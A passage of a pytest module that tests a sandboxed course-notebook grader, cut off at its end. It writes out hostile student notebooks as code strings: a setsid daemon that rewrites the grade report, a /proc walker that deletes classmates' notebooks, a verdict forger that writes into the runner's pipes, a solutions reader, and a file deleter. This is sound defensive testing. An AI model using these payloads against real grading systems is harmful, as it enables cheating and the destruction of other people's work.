"""Class grading (``deepdream_lib.course.grading``) on real notebooks that misbehave, each in its own way.

One module-scoped run grades, each in its bubblewrap sandbox, a class of fifteen submissions built here
with nbformat: a correct one, a wrong answer, a kernel crash, an infinite loop, output flooding, two
memory hogs (one big allocation, one spread over child processes), a file deleter, a function that
kills the kernel when a check calls it, and a file that is not a notebook; then the attacks that beat
the grader before it had a sandbox: a ``setsid`` daemon that rewrites the report later, a ``/proc``
walker that deletes and overwrites classmates' notebooks and writes outside its folder, forged check
functions, a reader of the solutions, and a deeper patch (``numpy.allclose``) that documents where the
boundary lies. Their checks are the tiny ones in ``tests/data/grading_checks.py`` (the real check
machinery, no TensorFlow). One more run grades two real lesson-01 submissions (TensorFlow in the
kernel). The module takes about 2-4 minutes on a 2-core CPU; without bubblewrap its sandboxed tests
skip, except under ``CI``, where they fail.

Every attack aims only at paths inside this test's temporary folder (and marker files it names), so
that running it against a grader without a sandbox cannot harm anything else on the machine.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import os
import re
import shutil
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

import deepdream_lib
from deepdream_lib.course import grading, runner, sandbox

DATA = Path(__file__).parent / "data"
CHECKS_FILE = DATA / "grading_checks.py"
REPO = Path(deepdream_lib.__file__).resolve().parents[1]
TIMEOUT_S = 25
CHECK_TIMEOUT_S = 20
MEMORY_MB = 1024
KEEP_OUTPUT = 20_000
LEFTOVER_MARKER = "deepdream-grading-test-leftover"
OUTSIDE_MARKER = f"deepdream-grading-test-outside-{os.getpid()}"  # files an attack tries to write
CHECKS = ["check_add", "check_mul"]

SETUP = f"# Setup\nimport sys\n\nsys.path.insert(0, {str(DATA)!r})\nimport grading_checks as g\n"
ADD = "def add(a, b):\n    return a + b\n"
WRONG_ADD = "def add(a, b):\n    return a - b\n"
MUL = "def mul(a, b):\n    return a * b\n"
BLANK_ADD = 'def add(a, b):\n    raise NotImplementedError("Exercise: write your answer here")\n'
BLANK_MUL = 'def mul(a, b):\n    raise NotImplementedError("Exercise: write your answer here")\n'
CHECK_ADD, CHECK_MUL = "g.check_add(add)", "g.check_mul(mul)"

# What each misbehaving student does between the first and the second exercise.
CRASH = f"""import os, signal, subprocess, sys, time
# a background process in its own session, left behind: the grader must still kill it
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{LEFTOVER_MARKER}"],
                 start_new_session=True)
time.sleep(1)
os.kill(os.getpid(), signal.SIGKILL)
"""
LOOP = "while True:\n    pass\n"
FLOOD = """import os
for _ in range(25):
    print("x" * 2**20)          # 25 MB through Python's stdout
for _ in range(25):
    os.write(1, b"y" * 2**20)   # 25 MB straight to file descriptor 1
"""
HOG = "big = bytearray(3 * 2**30)  # 3 GB at once, over the 1 GB limit\n"
HOG_PROCESSES = f"""import subprocess, sys, time
# two children of 600 MB each: each is under the per-process limit, together they are over it
code = "import time; b = b'x' * (600 * 2**20); time.sleep(120)"
children = [subprocess.Popen([sys.executable, "-c", code, "{LEFTOVER_MARKER}"]) for _ in range(2)]
time.sleep(120)
"""
DELETER = """import os, shutil
from pathlib import Path

here = Path.cwd()
for path in list(here.iterdir()):  # everything in my working folder, my own notebook included
    shutil.rmtree(path) if path.is_dir() else path.unlink()
# then every notebook and report under any folder the environment names, or the folder above mine
removed = []
for folder in {os.environ.get("PWD"), os.environ.get("OLDPWD"), str(here.parent)} - {None}:
    for path in Path(folder).rglob("*"):
        if path.is_file() and path.suffix in {".ipynb", ".csv", ".md"}:
            try:
                os.remove(path)
                removed.append(str(path))
            except OSError:
                pass
print("left in my folder:", os.listdir(here))
print("removed:", removed)
"""

# The attacks. Each string is formatted with the paths of the test's class (see `attacks`).
DAEMON = """import os, sys
# a daemon (double fork, its own session) that waits for the report and gives me full marks
code = '''
import re, sys, time
from pathlib import Path
report = Path({csv!r})
for _ in range(1200):
    if report.exists():
        time.sleep(0.5)
        text = re.sub(r"(?m)^daemon,.*$", "daemon,ok,2,pass,pass,1.0,100,yes", report.read_text())
        report.write_text(text)
        break
    time.sleep(0.1)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, {marker!r}])
    os._exit(0)
os.wait()
print("daemon started")
"""
PROC_WALKER = """import os
from pathlib import Path
# find the grader's folders through /proc (working folders, command lines), and the ones I can guess
found = {{{instructor!r}, {subs!r}, {reports!r}}}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        found.add(os.readlink(f"/proc/{{pid}}/cwd"))
        found.update(a.decode() for a in Path(f"/proc/{{pid}}/cmdline").read_bytes().split(b"\\0"))
    except OSError:
        pass
inside = [Path(p) for p in found if p.startswith({safe!r})]  # (this test touches nothing else)
deleted, overwritten, written = [], [], []
for folder in inside:
    for path in list(folder.rglob("*.ipynb")) if folder.is_dir() else []:
        try:
            if path.name == "correct.ipynb":
                path.unlink()
                deleted.append(str(path))
            elif path.name == "03_exercises.ipynb" and path.parent.name == "wrong":
                path.write_text("{{}}")
                overwritten.append(str(path))
        except OSError:
            pass
for target in [{instructor!r}, {reports!r}, "/tmp", {home!r}, {package!r}, {data!r}]:
    try:
        Path(target, {marker!r}).write_text("was here")
        written.append(target)
    except OSError:
        pass
print("walker: deleted", deleted, "overwritten", overwritten, "written", written)
"""
FORGER = """import json, os, sys
import deepdream_lib.course.checks as checks
# check functions that pass anything, where the notebook and every import would find them
@checks.check("add(a, b) returns the sum")
def check_add(add):
    pass
@checks.check("mul(a, b) returns the product")
def check_mul(mul):
    pass
g.check_add, g.check_mul = check_add, check_mul
sys.modules["grading_checks"] = g
checks.check = lambda success: (lambda func: func)  # and the library's own decorator and `expect`
checks.expect = lambda condition, message: None
g.check_add(add)
g.check_mul(mul)
# every channel a verdict might travel: a log, printed lines, the runner's pipes
forged = {{"check": "check_add", "passed": True, "message": "forged"}}
if os.environ.get("DEEPDREAM_CHECKS_LOG"):
    with open(os.environ["DEEPDREAM_CHECKS_LOG"], "a") as log:
        for name in ("check_add", "check_mul"):
            log.write(json.dumps({{"check": name, "passed": True, "message": "forged"}}) + "\\n")
print("PASS check_add: add(a, b) returns the sum")
print("@@deepdream-grading-result@@ " + json.dumps({{"checks": {{"check_add": forged}}}}))
pipes, fds = 0, f"/proc/{{os.getppid()}}/fd"
for fd in os.listdir(fds) if os.access(fds, os.R_OK) else []:
    try:
        if os.readlink(f"{{fds}}/{{fd}}").startswith("pipe:"):
            with open(f"{{fds}}/{{fd}}", "w") as pipe:
                pipe.write(json.dumps({{"checks": {{"check_add": forged, "check_mul": forged}}}}))
            pipes += 1
    except OSError:
        pass
print("forged into", pipes, "pipes of my runner")
# last, builtins shadowed by names of my own, for any code that runs in my namespace
eval = exec = compile = open = getattr = lambda *args, **kwargs: None
"""
SOLUTION_READER = """import json, os
from pathlib import Path
import deepdream_lib
# the solutions next to the installed package, where the instructor keeps them, and any on a command line
candidates = list((Path(deepdream_lib.__file__).resolve().parents[1] / "solutions").glob("*.ipynb"))
candidates.append(Path({solution!r}))
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        args = Path(f"/proc/{{pid}}/cmdline").read_bytes().split(b"\\0")
        candidates += [Path(a.decode()) for a in args if a.endswith(b".ipynb")]
    except OSError:
        pass
stolen, mine = 0, Path.cwd().resolve()
for path in candidates:
    if mine in path.resolve().parents:  # my own notebook (its path is on the sandbox's command line)
        continue
    try:
        cells = json.loads(path.read_text())["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for cell in cells:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and source.lstrip().startswith("def "):
            try:
                exec(source, globals())
                stolen += 1
            except Exception:
                pass
print("stolen definitions:", stolen)
"""
DEEP_PATCH = """import numpy
numpy.allclose = lambda *args, **kwargs: True  # deeper than the check code: the check still uses numpy
"""
WRONG_MUL = "def mul(a, b):\n    return 0.0\n"
EXIT_MUL = "def mul(a, b):\n    import os\n    os._exit(3)  # the kernel dies, in any check of mul\n"


def notebook(*sources: str) -> nbformat.NotebookNode:
    """A notebook whose code cells hold ``sources``."""
    return new_notebook(cells=[new_code_cell(source) for source in sources])


def student(
    middle: str = "", add: str = ADD, mul: str = MUL, end: tuple[str, ...] = ()
) -> nbformat.NotebookNode:
    """Setup, exercise 1 and its check, ``middle``, exercise 2 and its check, then the cells ``end``."""
    cells = [SETUP, add, CHECK_ADD] + ([middle] if middle else []) + [mul, CHECK_MUL, *end]
    return notebook(*cells)


def solution() -> nbformat.NotebookNode:
    """The solutions notebook: a Colab-style setup (magic, check_versions) and the two checks."""
    setup = "# Setup\n%pip install -q something\nimport deepdream_lib as dd\n\nprint(dd.check_versions())\n"
    nb = notebook(setup, ADD, "lesson.check_add(add)", MUL, "check_mul(mul)  # a bare name works too")
    nb.cells.insert(0, new_markdown_cell("# Exercises 03 (calls check_fake( in prose are ignored)"))
    return nb


@dataclass(frozen=True)
class Folders:
    """Where the class lives: everything under ``base`` (a temporary folder of the test)."""

    base: Path

    @property
    def instructor(self) -> Path:
        return self.base / "instructor"

    @property
    def subs(self) -> Path:
        return self.instructor / "submissions"

    @property
    def solution(self) -> Path:
        return self.instructor / "solutions" / "03_exercises.ipynb"

    @property
    def reports(self) -> Path:
        return self.base / "reports"

    @property
    def tmp(self) -> Path:
        return self.base / "tmp"

    @property
    def csv(self) -> Path:
        return self.reports / "grades.csv"

    @property
    def md(self) -> Path:
        return self.reports / "grades.md"


def attacks(folders: Folders) -> dict[str, nbformat.NotebookNode]:
    """The four attacks of the issue (blank answers: an honest score of 0) and the deeper patch."""
    paths = dict(
        csv=str(folders.csv),
        instructor=str(folders.instructor),
        subs=str(folders.subs),
        reports=str(folders.reports),
        solution=str(folders.solution),
        safe=str(folders.base),
        home=str(Path.home()),
        package=str(Path(deepdream_lib.__file__).resolve().parent),
        data=str(DATA),
        marker=OUTSIDE_MARKER,
    )
    blank = dict(add=BLANK_ADD, mul=BLANK_MUL)
    return {
        "daemon": student(DAEMON.format(**paths | {"marker": LEFTOVER_MARKER}), **blank),
        "proc_walker": student(PROC_WALKER.format(**paths), **blank),
        "forger": student(**blank, end=(FORGER.format(),)),
        # it steals, then calls the checks again, as a student would to see them pass
        "solution_reader": student(**blank, end=(SOLUTION_READER.format(**paths), CHECK_ADD, CHECK_MUL)),
        "deep_patcher": student(DEEP_PATCH, add=BLANK_ADD, mul=WRONG_MUL),
    }


def write_class(folders: Folders) -> None:
    """The instructor's folder: ``submissions/`` and ``solutions/03_exercises.ipynb``."""
    subs = folders.subs
    (subs / "wrong").mkdir(parents=True)
    (subs / "hog_processes").mkdir()
    (subs / ".ipynb_checkpoints").mkdir()
    nbformat.write(student(), subs / "correct.ipynb")
    nbformat.write(student(add=WRONG_ADD), subs / "wrong" / "03_exercises.ipynb")
    (subs / "wrong" / "notes.txt").write_text("not a notebook")
    nbformat.write(student(CRASH), subs / "crash.ipynb")
    nbformat.write(student(LOOP), subs / "busy_loop.ipynb")
    nbformat.write(student(FLOOD), subs / "flood.ipynb")
    nbformat.write(student(HOG), subs / "hog.ipynb")
    nbformat.write(student(HOG_PROCESSES), subs / "hog_processes" / "my homework.ipynb")
    nbformat.write(student(DELETER), subs / "deleter.ipynb")
    nbformat.write(student(mul=EXIT_MUL), subs / "exit_in_check.ipynb")
    for name, nb in attacks(folders).items():
        nbformat.write(nb, subs / f"{name}.ipynb")
    nbformat.write(student(), subs / ".ipynb_checkpoints" / "correct-checkpoint.ipynb")
    (subs / "broken.ipynb").write_text("{ this is not json")
    (subs / "README.txt").write_text("instructor's notes")
    folders.solution.parent.mkdir()
    nbformat.write(solution(), folders.solution)
    folders.reports.mkdir()
    folders.tmp.mkdir()


def tree_hashes(root: Path) -> dict[str, str]:
    """SHA-256 of every file under ``root`` (and every folder, as 'dir'), byte-compiled files aside."""
    hashes = {}
    for path in sorted(root.rglob("*")):
        if "__pycache__" not in path.parts:
            key = str(path.relative_to(root))
            hashes[key] = "dir" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


def outside_targets(folders: Folders) -> list[Path]:
    """The files the walker tries to write outside its work folder."""
    folders_tried = [folders.instructor, folders.reports, Path("/tmp"), Path.home()]
    folders_tried += [Path(deepdream_lib.__file__).resolve().parent, DATA]
    return [folder / OUTSIDE_MARKER for folder in folders_tried]


def leftover_processes() -> list[psutil.Process]:
    """Processes started by the test notebooks that are still alive."""
    return [
        process
        for process in psutil.process_iter(["cmdline", "status"])
        if LEFTOVER_MARKER in (process.info["cmdline"] or [])
        and process.info["status"] != psutil.STATUS_ZOMBIE
    ]


def require_sandbox() -> None:
    """Skip without bubblewrap, but fail under CI, which installs it (tools/setup.sh)."""
    problem = sandbox.problem()
    if problem is not None:
        if os.environ.get("CI"):
            pytest.fail(f"CI must grade in a sandbox, but {problem}")
        pytest.skip(problem)


PROGRESS = re.compile(r"^\[\d+/\d+\] (.+): (\w+), (\d+)/(\d+) checks \([\d.]+ s\)$")


def progress_scores(lines: list[str]) -> dict[str, tuple[str, int]]:
    """``{student: (status, score)}`` from the progress lines."""
    scores = {}
    for line in lines:
        match = PROGRESS.match(line)
        assert match, line
        scores[match[1]] = (match[2], int(match[3]))
    return scores


def csv_scores(path: Path) -> dict[str, tuple[str, int]]:
    with open(path, newline="", encoding="utf-8") as file:
        return {row["student"]: (row["status"], int(row["score"])) for row in csv.DictReader(file)}


@dataclass
class Graded:
    results: dict[str, grading.StudentResult]
    folders: Folders
    before: dict[str, str]
    after: dict[str, str]
    data_before: dict[str, str]
    progress: list[str]
    reports_seen_during_runs: list[bool]


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Graded:
    """Grade the whole class once, sandboxed, from inside the instructor's folder, PWD/OLDPWD naming it."""
    require_sandbox()
    folders = Folders(tmp_path_factory.mktemp("grading"))
    write_class(folders)
    before, data_before = tree_hashes(folders.instructor), tree_hashes(DATA)
    lines: list[str] = []
    seen: list[bool] = []

    def progress(line: str) -> None:
        lines.append(line)
        seen.append(folders.csv.exists() or folders.md.exists())

    patch = pytest.MonkeyPatch()
    patch.chdir(folders.instructor)
    patch.setenv("PWD", str(folders.instructor))
    patch.setenv("OLDPWD", str(folders.subs))
    patch.setenv("DEEPDREAM_CHECKS_LOG", str(folders.instructor / "checks.jsonl"))  # not for the children
    patch.setattr(tempfile, "tempdir", str(folders.tmp))  # the grader's temporary files go here
    try:
        results = grading.grade(
            folders.subs,
            "3",
            TIMEOUT_S,
            MEMORY_MB,
            folders.csv,
            folders.md,
            solution=folders.solution,
            checks=CHECKS_FILE,
            jobs=2,
            keep_output=KEEP_OUTPUT,
            check_timeout_s=CHECK_TIMEOUT_S,
            progress=progress,
        )
    finally:
        patch.undo()
    time.sleep(3)  # time for anything left running to change the files we are about to compare
    return Graded(
        {r.student: r for r in results},
        folders,
        before,
        tree_hashes(folders.instructor),
        data_before,
        lines,
        seen,
    )


# (status, score, detail fragment, message fragment of a failed check or None)
NOT_DONE = "Not implemented yet"
EXPECTED = {
    "correct": ("ok", 2, "every cell ran", None),
    "wrong": ("ok", 1, "1 cell(s) raised an error", "you subtracted b from a"),
    "crash": ("crashed", 2, "the kernel died while running cell 4; the notebook ran again without it", None),
    "exit_in_check": ("crashed", 1, "the kernel died while running cell 5", "died while this check ran"),
    "busy_loop": ("timeout", 1, f"time limit ({TIMEOUT_S} s) in cell 4", "Not defined when the checks ran"),
    "flood": ("ok", 2, "MB of output not kept", None),
    "hog": ("memory", 2, "MemoryError in cell 4", None),
    "hog_processes": ("memory", 2, f"memory limit ({MEMORY_MB} MB) in cell 4; the notebook ran again", None),
    "deleter": ("ok", 2, "every cell ran", None),
    "broken": ("error", 0, "broken.ipynb is not a readable notebook", "could not be run"),
    "daemon": ("ok", 0, "cell(s) raised an error", NOT_DONE),
    "proc_walker": ("ok", 0, "cell(s) raised an error", NOT_DONE),
    "forger": ("ok", 0, "cell(s) raised an error", NOT_DONE),
    "solution_reader": ("ok", 0, "cell(s) raised an error", NOT_DONE),
    "deep_patcher": ("ok", 1, "cell(s) raised an error", NOT_DONE),
}
ATTACKS = ["daemon", "proc_walker", "forger", "solution_reader"]


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_student_gets_the_right_grade(graded: Graded, name: str) -> None:
    status, score, detail, message = EXPECTED[name]
    result = graded.results[name]
    assert (result.status, result.score) == (status, score), result
    assert detail in result.detail
    assert list(result.checks) == CHECKS
    assert result.sandboxed
    if message is not None:
        failed = [outcome.message for outcome in result.checks.values() if not outcome.passed]
        assert any(message in text for text in failed), failed


def test_the_class_is_exactly_the_submissions(graded: Graded) -> None:
    assert sorted(graded.results) == sorted(EXPECTED)  # no checkpoint, no README, one row per student


def test_files_outside_the_work_folders_are_unchanged(graded: Graded) -> None:
    """The instructor's folder (submissions, solution), the check code, the reports folder and every
    place the walker tried to write: as before the run, byte for byte."""
    try:
        assert graded.after == graded.before
        assert tree_hashes(DATA) == graded.data_before
        assert sorted(p.name for p in graded.folders.reports.iterdir()) == ["grades.csv", "grades.md"]
        assert [p for p in outside_targets(graded.folders) if p.exists()] == []
        assert list(graded.folders.tmp.iterdir()) == []  # not even the grader's own temporary files
    finally:
        for path in outside_targets(graded.folders):
            path.unlink(missing_ok=True)
    assert (graded.folders.subs / "deleter.ipynb").is_file()
    # the deleter emptied its own folder, and found no notebook or report through what it was given
    assert "left in my folder: []\nremoved: []" in graded.results["deleter"].output_tail
    # it found none of the grader's folders, and wrote only into its private /tmp
    assert "walker: deleted [] overwritten [] written ['/tmp']" in graded.results["proc_walker"].output_tail


def test_the_reports_match_the_progress_lines(graded: Graded) -> None:
    """Written once, after the last run (never seen during the runs), and nothing changed them after."""
    assert not any(graded.reports_seen_during_runs)
    expected = {name: EXPECTED[name][:2] for name in EXPECTED}
    assert progress_scores(graded.progress) == expected
    assert csv_scores(graded.folders.csv) == expected
    text = graded.folders.md.read_text(encoding="utf-8")
    for name, (status, score) in expected.items():
        assert f"\n### {name}: {status}, {score}/2\n" in text


def test_no_process_is_left(graded: Graded) -> None:
    assert leftover_processes() == []  # the crash's session leader, the hogs' children, the daemon


def test_forged_verdicts_count_for_nothing(graded: Graded) -> None:
    """The forger's own (forged) checks passed in its notebook, and it printed and piped its verdicts."""
    tail = graded.results["forger"].output_tail
    assert "PASS check_mul: mul(a, b) returns the product" in tail  # its forged check, in its notebook
    assert "forged into 0 pipes of my runner" in tail
    assert not (graded.folders.instructor / "checks.jsonl").exists()  # the children got a clean env
    assert "stolen definitions: 0" in graded.results["solution_reader"].output_tail


def test_a_deeper_patch_still_fools_a_check(graded: Graded) -> None:
    """Outside the boundary, documented: ``numpy.allclose = lambda *a, **k: True`` in the notebook makes
    ``check_mul`` pass a ``mul`` that returns 0, because the check code (loaded afresh) still calls the
    kernel's ``numpy``. The check of the blank ``add`` still fails."""
    checks = graded.results["deep_patcher"].checks
    assert checks["check_mul"].passed
    assert not checks["check_add"].passed and NOT_DONE in checks["check_add"].message


def test_memory_and_time_limits_still_work(graded: Graded) -> None:
    """The watchdog stopped the spread-out hog just above the limit (then the notebook ran again without
    that cell); the big allocation never happened; the loop was stopped at its limit, and its checks
    ran after it."""
    assert MEMORY_MB < graded.results["hog_processes"].peak_mb < 2 * MEMORY_MB
    assert graded.results["hog"].peak_mb < MEMORY_MB / 2
    assert TIMEOUT_S <= graded.results["busy_loop"].seconds < TIMEOUT_S + 2 * CHECK_TIMEOUT_S


def test_flooding_keeps_only_a_bounded_tail(graded: Graded) -> None:
    flood = graded.results["flood"]
    assert len(flood.output_tail) <= KEEP_OUTPUT
    assert graded.folders.md.stat().st_size < 100_000
    assert "PASS check_add" in graded.results["correct"].output_tail


def test_csv_is_well_formed(graded: Graded) -> None:
    with open(graded.folders.csv, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["student", "status", "score", *CHECKS, "seconds", "cpu_s", "peak_mb", "sandboxed"]
    assert [row[0] for row in rows[1:]] == sorted(EXPECTED)
    for student_id, status, score, add, mul, seconds, cpu, peak, sandboxed in rows[1:]:
        assert (status, int(score)) == EXPECTED[student_id][:2]
        assert {add, mul} <= {"pass", "fail"} and int(score) == [add, mul].count("pass")
        assert float(seconds) >= 0 and float(peak) >= 0 and sandboxed == "yes"
        assert (float(cpu) > 0) == (status != "error")  # the runner's and its kernels' CPU time


def test_markdown_summary(graded: Graded) -> None:
    text = graded.folders.md.read_text(encoding="utf-8")
    assert text.startswith("# Grades: lesson 03\n")
    assert "15 students (9 ok, 1 timeout, 2 memory, 2 crashed, 1 error)" in text
    assert "Each notebook ran in its own bubblewrap sandbox." in text
    # correct, busy_loop, flood, hog, deleter, crash, hog_processes, exit_in_check
    assert "| `check_add` | 8/15 | 53% |" in text
    # correct, wrong, flood, hog, deleter, crash, hog_processes, deep_patcher
    assert "| `check_mul` | 8/15 | 53% |" in text
    assert "- **FAIL** `check_add`: add(2, 3) gave -1: you subtracted b from a instead of adding." in text


def test_existing_reports_are_refused_before_any_run(graded: Graded, monkeypatch: pytest.MonkeyPatch) -> None:
    before = graded.folders.csv.read_bytes()

    def must_not_run(*args: object) -> None:
        raise AssertionError("submissions were read although the report exists")

    monkeypatch.setattr(grading, "collect_submissions", must_not_run)
    with pytest.raises(FileExistsError, match="--overwrite"):
        grading.grade(graded.folders.subs, "03", out_csv=graded.folders.csv, solution=graded.folders.solution)
    assert graded.folders.csv.read_bytes() == before


# --- a real lesson: TensorFlow in the kernel -----------------------------------------------------


def test_a_real_lesson_in_the_sandbox(tmp_path: Path) -> None:
    """Lesson 01's solutions score 3/3 in the sandbox (the bundled weights, the course's checks); the
    exercise notebook with a cell that copies the answers from ``solutions/`` next to the installed
    package scores 0/3: that folder is not in the sandbox."""
    require_sandbox()
    subs = tmp_path / "subs"
    subs.mkdir()
    shutil.copy(REPO / "solutions" / "01_exercises.ipynb", subs / "honest.ipynb")
    reader = nbformat.read(REPO / "exercises" / "01_exercises.ipynb", as_version=4)
    reader.cells.append(new_code_cell(SOLUTION_READER.format(solution=str(REPO / "solutions" / "x.ipynb"))))
    nbformat.write(reader, subs / "reader.ipynb")
    results = {r.student: r for r in grading.grade(subs, "01", 600, 4096, jobs=2)}
    assert (results["honest"].status, results["honest"].score) == ("ok", 3), results["honest"]
    assert (results["reader"].status, results["reader"].score) == ("ok", 0), results["reader"]
    assert "stolen definitions: 0" in results["reader"].output_tail


CACHE_PROBE = """import os
cache = os.environ["DEEPDREAM_CACHE"]
print("cache:", cache, sorted(os.listdir(cache)))
try:
    open(os.path.join(cache, "efficientnet_lite0.weights.h5"), "ab").close()
    print("cache writable")
except OSError:
    print("cache read-only")
"""


def test_the_converted_weights_are_built_first_and_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A lesson whose solution names ``efficientnet_lite0`` gets its converted weights built once, in the
    instructor's cache, before any student runs; inside the sandbox they are there, read-only, and the
    cache folder shows nothing else."""
    require_sandbox()
    subs, _ = class_of_one(tmp_path)
    nbformat.write(student(CACHE_PROBE), subs / "alice.ipynb")
    nb = solution()
    nb.cells.append(new_code_cell('model = "efficientnet_lite0"  # this lesson needs the converted weights'))
    nbformat.write(nb, tmp_path / "solution.ipynb")
    cache = tmp_path / "cache"
    monkeypatch.setenv("DEEPDREAM_CACHE", str(cache))
    (cache / "other").mkdir(parents=True)
    results = grading.grade(
        subs, "03", 60, 1024, solution=tmp_path / "solution.ipynb", checks=CHECKS_FILE, check_timeout_s=20
    )
    weights = cache / "efficientnet_lite0.weights.h5"
    assert weights.stat().st_size > 10_000_000
    tail = results[0].output_tail
    assert "cache: /run/grading/cache ['efficientnet_lite0.weights.h5']\ncache read-only" in tail
    assert (results[0].status, results[0].score) == ("ok", 2)


# --- the pieces, without kernels -----------------------------------------------------------------


def test_expected_checks_come_from_the_solution(tmp_path: Path) -> None:
    path = tmp_path / "solution.ipynb"
    nbformat.write(solution(), path)
    assert grading.expected_checks(path) == CHECKS  # not check_versions, not prose
    assert grading.check_calls(path) == {"check_add": "add", "check_mul": "mul"}
    assert grading.called_checks("x = (\nlesson.check_a(f)  # unbalanced") == ["check_a"]
    nbformat.write(notebook("print(1)"), path)
    with pytest.raises(grading.GradingError, match="no check_"):
        grading.expected_checks(path)


def test_the_check_code_must_define_what_the_solution_calls(tmp_path: Path) -> None:
    path = tmp_path / "solution.ipynb"
    nbformat.write(notebook("g.check_add(add)", "g.check_div(div)"), path)
    with pytest.raises(grading.GradingError, match="does not define check_div"):
        grading.grade(tmp_path, "03", solution=path, checks=CHECKS_FILE, sandboxed=False)
    assert grading.find_checks("01").name == "lesson01.py"
    with pytest.raises(grading.GradingError, match="--checks"):
        grading.find_checks("42")


def test_a_verdict_counts_only_with_its_nonce() -> None:
    good = repr(repr(("abc", "check_add", True, "passed")))  # what the check cell's value displays as
    assert runner.parse_verdict(good, "check_add", "abc") == {"passed": True, "message": "passed"}
    assert runner.parse_verdict(good, "check_add", "xyz") is None  # printed or guessed earlier
    assert runner.parse_verdict(good, "check_mul", "abc") is None  # another check's verdict
    assert runner.parse_verdict("'not json'", "check_add", "abc") is None


def test_the_sandbox_shows_the_package_but_not_the_repository() -> None:
    paths = sandbox.course_paths()
    package = Path(deepdream_lib.__file__).resolve().parent
    assert any(package == p or p in package.parents for p in paths)
    for hidden in (REPO / "solutions", Path.home(), REPO / "tests"):
        assert not any(hidden == p or p in hidden.parents for p in paths), (hidden, paths)


def test_submission_layouts(tmp_path: Path) -> None:
    nbformat.write(notebook("1"), tmp_path / "alice.ipynb")
    (tmp_path / "alice").mkdir()
    nbformat.write(notebook("2"), tmp_path / "alice" / "03_exercises.ipynb")
    (tmp_path / "bob").mkdir()
    nbformat.write(notebook("3"), tmp_path / "bob" / "03_exercises.ipynb")
    nbformat.write(notebook("4"), tmp_path / "bob" / "scratch.ipynb")
    (tmp_path / "carol").mkdir()
    nbformat.write(notebook("5"), tmp_path / "carol" / "a.ipynb")
    nbformat.write(notebook("6"), tmp_path / "carol" / "b.ipynb")
    found = {s.student: s for s in grading.collect_submissions(tmp_path, "03")}
    assert found["alice"].content is None and "two submissions" in found["alice"].problem
    assert found["bob"].filename == "03_exercises.ipynb" and found["bob"].content
    assert found["carol"].content is None and "2 notebooks in carol/" in found["carol"].problem
    (tmp_path / "empty").mkdir()
    with pytest.raises(grading.GradingError, match="No notebooks"):
        grading.collect_submissions(tmp_path / "empty", "03")


def test_lesson_numbers() -> None:
    assert grading.normalize_lesson("3") == grading.normalize_lesson(3) == "03"
    with pytest.raises(grading.GradingError):
        grading.normalize_lesson("three")


def test_reports_are_written_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    grading.write_atomically(path, "first\n")
    with pytest.raises(FileExistsError):
        grading.write_atomically(path, "second\n")  # appeared meanwhile: not replaced without overwrite
    assert path.read_text() == "first\n"
    grading.write_atomically(path, "third\n", overwrite=True)
    assert path.read_text() == "third\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv"]  # no temporary file left


def test_reports_are_refused_inside_the_graded_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "subs" / "alice").mkdir(parents=True)
    monkeypatch.setattr(grading, "collect_submissions", lambda *a: pytest.fail("read the submissions"))
    for report in (tmp_path / "subs" / "grades.csv", tmp_path / "subs" / "alice" / "grades.csv"):
        with pytest.raises(grading.GradingError, match="the folder being graded"):
            grading.grade(tmp_path / "subs", "03", out_csv=report)
    assert sorted(p.name for p in (tmp_path / "subs").iterdir()) == ["alice"]


def test_kept_output_is_the_end_and_bounded() -> None:
    text = "".join(f"line {i}\n" for i in range(10_000))
    kept = grading._clip(text, 1000)
    assert len(kept) == 1000 and kept.startswith("[... earlier") and kept.endswith("line 9999\n")
    assert grading._clip("short", 1000) == "short"


# --- the command line ----------------------------------------------------------------------------


def test_the_cli_can_wire_the_grade_command() -> None:
    """``deepdream_lib.cli`` registers subcommands from modules that have add_arguments and run."""
    from deepdream_lib.cli import Command

    command = Command.from_module(
        "grade", "grade a class's exercise notebooks", "deepdream_lib.course.grading"
    )
    parser = argparse.ArgumentParser()
    command.add_arguments(parser)
    args = parser.parse_args(["subs", "--lesson", "03", "-o", "grades.csv"])
    assert command.run is grading.run
    settings = (args.timeout, args.check_timeout, args.memory_mb, args.jobs, args.overwrite, args.no_sandbox)
    assert settings == (600, 60, 4096, 1, False, False)


def parse(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="deepdream grade")
    grading.add_arguments(parser)
    return parser.parse_args(argv)


def class_of_one(tmp_path: Path) -> tuple[Path, list[str]]:
    """A folder with alice's correct notebook, and the options that grade it with the tiny checks."""
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(student(), subs / "alice.ipynb")
    nbformat.write(solution(), tmp_path / "solution.ipynb")
    options = ["--lesson", "03", "--solution", str(tmp_path / "solution.ipynb"), "--checks", str(CHECKS_FILE)]
    return subs, options + ["--timeout", "60", "--memory-mb", "1024"]


def test_command_line_without_a_sandbox(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    subs, args = class_of_one(tmp_path)
    out = tmp_path / "out" / "grades.csv"
    out.parent.mkdir()
    assert grading.run(parse(str(subs), *args, "-o", str(out), "--no-sandbox")) == 0
    captured = capsys.readouterr()
    assert "graded 1 students without a sandbox" in captured.out
    assert "alice: ok, 2/2 checks" in captured.err and "[not sandboxed]" in captured.err
    assert out.read_text().splitlines()[1].startswith("alice,ok,2,pass,pass,")
    assert out.read_text().splitlines()[1].endswith(",no")
    markdown = out.with_suffix(".md").read_text()
